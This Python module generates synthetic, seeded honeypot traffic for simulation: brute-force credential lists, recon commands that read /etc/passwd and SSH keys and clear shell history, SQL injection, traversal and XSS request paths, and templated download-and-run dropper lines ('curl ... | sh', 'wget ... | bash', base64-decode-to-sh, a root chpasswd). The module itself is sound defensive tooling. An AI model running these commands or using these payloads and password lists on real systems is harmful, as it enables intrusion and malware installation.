"""What attackers of an Internet-facing honeypot typically send, as seeded random choices."""

from __future__ import annotations

import functools
import hashlib
import itertools
import random
from collections.abc import Sequence

USERNAMES = (
    "root", "admin", "user", "test", "ubuntu", "oracle", "postgres", "pi", "support",
    "guest", "ftpuser", "git", "deploy", "ec2-user", "centos", "hadoop", "nagios", "mysql",
    "administrator", "ubnt", "debian", "steam", "minecraft", "jenkins", "www-data", "1234",
)  # fmt: skip
PASSWORDS = (
    "123456", "password", "admin", "root", "12345678", "qwerty", "123456789", "1234",
    "12345", "111111", "toor", "raspberry", "ubnt", "P@ssw0rd", "admin123", "changeme",
    "passw0rd", "welcome", "abc123", "letmein", "1qaz2wsx", "default", "alpine", "Aa123456",
    "root123", "test123", "qwe123", "huawei", "000000", "",
)  # fmt: skip
RECON_COMMANDS = (
    "uname -a", "uname -s -v -n -r -m", "cat /proc/cpuinfo | grep name | wc -l",
    "cat /proc/cpuinfo | grep name | head -n 1 | awk '{print $4,$5,$6,$7,$8,$9;}'",
    "free -m | grep Mem | awk '{print $2 ,$3, $4, $5, $6, $7}'", "w", "whoami", "id",
    "ls -la", "ls -lh $(which ls)", "nproc", "crontab -l", "cat /etc/passwd", "lscpu",
    "top", "uptime", "df -h", "ps aux | grep -v grep | grep -i miner", "cat .ssh/authorized_keys",
    "export HISTFILE=/dev/null", "history -c", "cd /tmp", "cat /etc/os-release",
)  # fmt: skip
FAILING_COMMANDS = (
    "/bin/busybox ECCHI", "enable", "system", "shell", "lspci", "nvidia-smi",
    "/ip cloud print", "sh", "linuxshell", "tftp",
)  # fmt: skip
PAYLOAD_NAMES = (
    "bins.sh", "x86", "mips", "arm7", ".s", "sshd", "kinsing", "xmrig", "jaws", "Mozi.m",
    "ohshit.sh", "tftp1.sh", "apache2",
)  # fmt: skip
PAYLOAD_HOSTS = 4
"""Distribution hosts a pool's payloads come from (the pool's most active addresses)."""
SSH_CLIENT_VERSIONS = (
    "SSH-2.0-libssh2_1.9.0", "SSH-2.0-Go", "SSH-2.0-OpenSSH_7.4", "SSH-2.0-PUTTY",
    "SSH-2.0-libssh_0.9.6", "SSH-2.0-paramiko_2.7.2", "SSH-2.0-ZGrab ZGrab SSH Survey",
    "SSH-2.0-OpenSSH_8.2p1 Ubuntu-4ubuntu0.5",
)  # fmt: skip
USER_AGENTS = (
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
    "Chrome/118.0.0.0 Safari/537.36",
    "Mozilla/5.0 zgrab/0.x", "curl/7.88.1", "python-requests/2.31.0", "Go-http-client/1.1",
    "masscan/1.3 (https://github.com/robertdavidgraham/masscan)",
    "Mozilla/5.0 (compatible; CensysInspect/1.1; +https://about.censys.io/)",
    "Hello, world", "Mozilla/5.0 (X11; Linux x86_64; rv:109.0) Gecko/20100101 Firefox/115.0",
    "-",
)  # fmt: skip
FTP_COMMANDS = ("USER anonymous", "PASS anonymous@", "SYST", "PWD", "LIST", "RETR passwd")
SMTP_COMMANDS = ("EHLO scanner.local", "MAIL FROM:<spam@example.com>", "RCPT TO:<a@b.c>", "QUIT")
SQLI_AND_TRAVERSAL = (
    "/index.php?id=1%27%20OR%20%271%27=%271", "/products.php?id=1+UNION+SELECT+1,2,3--",
    "/../../../../etc/passwd", "/cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh", "/?page=../../../etc/passwd",
    "/login.php?user=admin%27--&pass=x", "/search?q=%3Cscript%3Ealert(1)%3C/script%3E",
)  # fmt: skip
SCANNER_PATHS = (
    "/.env", "/wp-login.php", "/xmlrpc.php", "/.git/config", "/phpmyadmin/index.php",
    "/cgi-bin/luci/;stok=/locale", "/boaform/admin/formLogin", "/HNAP1/",
    "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", "/solr/admin/info/system?wt=json",
    "/actuator/env", "/GponForm/diag_Form?images/", "/owa/auth/logon.aspx", "/admin",
    "/server-status", "/.aws/credentials", "/config.json", "/api/v1/pods",
)  # fmt: skip
BENIGN_PATHS = ("/", "/robots.txt", "/favicon.ico", "/index.html", "/sitemap.xml")
HTTP_METHODS = ("GET", "GET", "GET", "GET", "POST", "HEAD", "OPTIONS", "PUT")


class AttackerPool:
    """Seeded attacker population: a few heavy hitters and a long tail of one-off sources."""

    def __init__(
        self, rng: random.Random, size: int = 256, *, ips: Sequence[str] | None = None
    ) -> None:
        """Builds the pool.

        Args:
            rng: Source of randomness (the caller's seeded generator).
            size: How many distinct attacker IPs to draw (when `ips` is None).
            ips: The attacker IPs, most active first; lets honeypots of one fleet share
                attackers, as botnets hit many honeypots at once.
        """
        self._rng = rng
        self.ips = list(ips) if ips is not None else public_ips(rng, size)
        self._cum_weights = _zipf_cumulative_weights(len(self.ips))

    def ip(self) -> str:
        """Returns an attacker IP, heavy hitters more often."""
        return self._rng.choices(self.ips, cum_weights=self._cum_weights)[0]

    def port(self) -> int:
        """Returns an ephemeral source port."""
        return self._rng.randint(1024, 65535)

    def username(self) -> str:
        """Returns a login name from the usual brute-force lists."""
        return self._rng.choice(USERNAMES)

    def password(self) -> str:
        """Returns a password from the usual brute-force lists."""
        return self._rng.choice(PASSWORDS)

    def download_url(self) -> str:
        """Returns the URL of a malware dropper on one of the pool's few payload hosts.

        Botnets serve their payloads from a handful of distribution hosts, the same for every
        honeypot they hit: honeypots of one fleet see the same URLs and the same files.
        """
        host = self._rng.choice(self.ips[1 : 1 + PAYLOAD_HOSTS] or self.ips)
        return f"http://{host}/{self._rng.choice(PAYLOAD_NAMES)}"

    def sha256_of(self, url: str) -> str:
        """Returns the (stable, made-up) SHA-256 of what `url` serves: one file per URL."""
        return hashlib.sha256(f"payload served at {url}".encode()).hexdigest()

    def dropper_command(self, url: str) -> str:
        """Returns a typical download-and-run command line for `url`."""
        file_name = url.rsplit("/", 1)[-1]
        templates = (
            "cd /tmp || cd /var/run || cd /mnt; wget {url}; chmod +x {file}; ./{file}",
            "curl -s {url} | sh",
            "wget -qO- {url} | bash",
            "cd /tmp; tftp -g -r {file} {host}; chmod 777 {file}; ./{file}",
        )
        host = url.split("/")[2]
        return self._rng.choice(templates).format(url=url, file=file_name, host=host)

    def base64_command(self) -> str:
        """Returns an `echo <base64> | base64 -d | sh` one-liner."""
        blob = "".join(self._rng.choices(_BASE64_ALPHABET, k=self._rng.randint(40, 120)))
        return f"echo {blob}== | base64 -d | sh"

    def command(self) -> str:
        """Returns a shell command an attacker typically runs after logging in."""
        roll = self._rng.random()
        if roll < 0.15:
            return self.dropper_command(self.download_url())
        if roll < 0.22:
            return self.base64_command()
        if roll < 0.27:
            return f'echo "root:{self.password()}xX9"|chpasswd|bash'
        return self._rng.choice(RECON_COMMANDS)


_BASE64_ALPHABET = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/"


@functools.cache
def _zipf_cumulative_weights(size: int) -> list[float]:
    # Zipf-like weights: the first few addresses produce most of the traffic.
    return list(itertools.accumulate(1.0 / (rank + 1) ** 1.1 for rank in range(size)))


# First octets of globally routed unicast space (private, CGN, loopback, link-local,
# documentation and multicast /8s left out wholesale, which is simpler and fast).
_PUBLIC_FIRST_OCTETS = tuple(
    octet for octet in range(1, 224) if octet not in (10, 100, 127, 169, 172, 192, 198, 203)
)


def public_ips(rng: random.Random, size: int) -> list[str]:
    """Returns `size` distinct random IPv4 addresses from publicly routed space."""
    ips: list[str] = []
    seen: set[str] = set()
    while len(ips) < size:
        text = (
            f"{rng.choice(_PUBLIC_FIRST_OCTETS)}.{rng.randint(0, 255)}."
            f"{rng.randint(0, 255)}.{rng.randint(1, 254)}"
        )
        if text not in seen:
            seen.add(text)
            ips.append(text)
    return ips
